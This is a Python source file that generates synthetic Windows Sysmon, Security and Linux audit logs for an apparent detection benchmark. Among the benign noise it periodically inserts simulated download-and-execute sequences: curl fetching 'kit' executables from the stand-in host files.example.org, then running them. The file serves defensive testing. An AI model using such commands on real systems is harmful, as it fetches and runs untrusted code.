"""Logs for the bench: what hosts write all day, with a transfer now and then. The same bytes every time."""

from __future__ import annotations

import json
import random
from collections.abc import Iterator
from pathlib import Path

from log_writer import SECURITY, Audit, Windows, guid

DAY = 86_400.0
TRANSFER_EVERY = 4_000
"""Steps of a host between two transfers."""

_SYSTEM = "C:\\Windows\\System32\\"
_PROGRAMS = (
    "svchost.exe",
    "conhost.exe",
    "backgroundTaskHost.exe",
    "RuntimeBroker.exe",
    "taskhostw.exe",
    "WmiPrvSE.exe",
    "cmd.exe",
)
_PATHS = ("AppData\\Local\\Temp\\~DF{}.tmp", "Documents\\report {}.docx", "AppData\\Roaming\\vendor\\state-{}.json")
OTHER = (
    (10, 26),
    (7, 24),
    (12, 14),
    (13, 10),
    (5, 4),
    (4658, 8),
    (4656, 6),
    (4690, 3),
    (4703, 2),
    (11, 5),
    (1, 3),
    (3, 3),
    (22, 2),
)
"""Event ids by how often they come, in parts of 110: what Sysmon and auditing with broad settings write."""


def windows_json(path: Path, size: int, host: str = "ws01.example.com", *, wanted_only: bool = False) -> None:
    """Sysmon and Security events as NXLog writes them, one object a line; `wanted_only` leaves out ids that nobody reads."""
    _write(path, size, _windows_lines(host, wanted_only))


def _windows_lines(host: str, wanted_only: bool) -> Iterator[str]:
    chance = random.Random(host)
    kinds = [(number, weight) for number, weight in OTHER if not wanted_only or number in (1, 3, 5, 11, 22)]
    numbers, weights = [number for number, _ in kinds], [weight for _, weight in kinds]
    step = 0
    while True:
        log = Windows(host)
        for number in chance.choices(numbers, weights, k=500):
            step += 1
            windows_event(log, number, step, chance)
            if step % TRANSFER_EVERY == 0:
                _windows_transfer(log, step)
        yield from log.lines


def windows_event(log: Windows, number: int, step: int, chance: random.Random) -> None:
    """One event of a Windows host by its number."""
    seconds, pid = step * 0.5 % (20 * DAY), 4_000 + step % 9_000
    image = _SYSTEM + chance.choice(_PROGRAMS)
    if number == 1:
        log.start(seconds, pid, image, f'"{image}" -Embedding -k netsvcs -p {step}', Hashes=f"SHA256={step:064X}")
    elif number == 3:
        log.connection(seconds, pid, f"198.51.100.{step % 250}", 443, "files.example.com")
    elif number == 11:
        log.file(seconds, pid, "C:\\Users\\ann\\" + chance.choice(_PATHS).format(step))
    elif number > 4_000:
        log.add(
            seconds, SECURITY, number, SubjectUserName="ann", SubjectLogonId="0x3e7a1", ObjectServer="Security",
            HandleId=hex(step), ProcessId=hex(pid), ProcessName=image, Message="A handle to an object was requested. " * 8,
        )  # fmt: skip
    else:
        data = {"ProcessGuid": guid(pid), "ProcessId": pid, "Image": image, "User": "EXAMPLE\\ann"}
        more = {
            7: {
                "ImageLoaded": _SYSTEM + "ntdll.dll",
                "Signed": "true",
                "Signature": "Microsoft Windows",
                "Hashes": f"SHA256={step:064X}",
            },
            10: {"TargetImage": _SYSTEM + "lsm.exe", "GrantedAccess": "0x1000", "CallTrace": _SYSTEM + "ntdll.dll+9c534|" * 6},
            22: {"QueryName": "files.example.com", "QueryStatus": "0", "QueryResults": "::ffff:198.51.100.7;"},
        }.get(number, {"TargetObject": f"HKU\\S-1-5-21\\Software\\Vendor\\State\\{step}", "Details": "DWORD (0x00000001)"})
        log.add(seconds, ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational"), number, **data, **more)


def _windows_transfer(log: Windows, step: int) -> None:
    seconds, pid = step * 0.5 % (20 * DAY), 20_000 + step % 9_000
    target = f"C:\\Users\\Public\\kit{step}.exe"
    log.start(seconds, pid, _SYSTEM + "curl.exe", f"curl.exe -o {target} http://files.example.org/kit{step}.exe")
    log.connection(seconds + 0.1, pid, "198.51.100.7", 80, "files.example.org")
    log.file(seconds + 0.2, pid, target)
    log.start(seconds + 0.4, pid + 1, target, target)


def audit(path: Path, size: int, host: str = "web1") -> None:
    """Linux audit records: starts, connections, opened files, and system calls of no use here."""
    _write(path, size, _audit_lines(host))


def _audit_lines(host: str) -> Iterator[str]:
    chance = random.Random(host)
    log = Audit(host)
    step = 0
    while True:
        log.lines.clear()
        log.programs.clear()
        for _ in range(300):
            step += 1
            audit_event(log, step, chance.random())
            if step % TRANSFER_EVERY == 0:
                _audit_transfer(log, step)
        yield from log.lines


def audit_event(log: Audit, step: int, roll: float) -> None:
    """One event of a Linux host."""
    seconds, pid = step * 0.5, 2_000 + step % 30_000
    log.programs[pid] = "/opt/monitor/bin/agent"
    if roll < 0.2:
        log.run(seconds, pid, "sh", "-c", f"/usr/lib/monitor/check --number {step % 40}", program="/usr/bin/dash")
    elif roll < 0.4:
        log.run(seconds, pid, "grep", "-q", f"state {step}", "/var/lib/monitor/state")
    elif roll < 0.55:
        log.connect(seconds, pid, f"198.51.100.{step % 250}", 443)
    elif roll < 0.75:
        log.create(seconds, pid, f"/var/lib/monitor/{step}.tmp")
    elif roll < 0.85:
        log.rename(seconds, pid, f"/var/lib/monitor/{step}.tmp", f"/var/lib/monitor/{step}")
    else:
        log.chmod(seconds, pid, f"/var/lib/monitor/{step}")


def _audit_transfer(log: Audit, step: int) -> None:
    seconds, pid = step * 0.5, 50_000 + step % 9_000
    log.run(seconds, pid, "curl", "-o", f"/tmp/kit{step}", f"http://files.example.org/kit{step}")
    log.connect(seconds + 0.1, pid, "198.51.100.7", 80)
    log.create(seconds + 0.2, pid, f"/tmp/kit{step}")
    log.run(seconds + 0.4, pid + 1, f"/tmp/kit{step}")


def _write(path: Path, size: int, lines: Iterator[str]) -> None:
    """Lines until the file has about `size` bytes."""
    written = 0
    with path.open("w", encoding="utf-8", newline="\n") as file:
        while written < size:
            line = next(lines) + "\n"
            file.write(line)
            written += len(line)


def evtx_folder(folder: Path, size: int) -> None:
    """EVTX files of Sysmon events, for machines without the labelled corpus."""
    from evtx_writer import Entry, evtx

    number = 0
    while sum(file.stat().st_size for file in folder.glob("*.evtx")) < size:
        log = Windows(f"ws{number:02}.example.com")
        chance = random.Random(number)
        for step in range(1, 3_000):
            windows_event(log, chance.choice((1, 3, 11, 22, 10, 12)), step, chance)
            if step % 500 == 0:
                _windows_transfer(log, step)
        entries = []
        for place, line in enumerate(log.lines, 1):
            event = json.loads(line)
            named = {name: str(value) for name, value in event.items() if name not in _HEAD}
            moment = event["UtcTime"].replace(" ", "T") + "+00:00"
            entries.append(
                Entry("Microsoft-Windows-Sysmon", event["EventID"], place, named, moment, event["Hostname"], event["Channel"])
            )
        (folder / f"sysmon-{number:02}.evtx").write_bytes(evtx(entries))
        number += 1


_HEAD = ("EventTime", "Hostname", "SourceName", "EventID", "Channel", "RecordNumber")
